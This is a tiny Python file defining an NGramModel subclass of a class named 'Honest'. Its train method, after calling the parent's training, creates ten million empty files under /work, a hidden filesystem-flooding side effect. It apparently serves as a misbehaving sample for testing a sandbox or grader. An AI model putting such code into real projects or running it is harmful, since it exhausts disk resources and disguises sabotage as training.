from pathlib import Path


class NGramModel(Honest):
    def train(self, sentences):
        super().train(sentences)
        for number in range(10_000_000):
            Path("/work", f"{number}").touch()
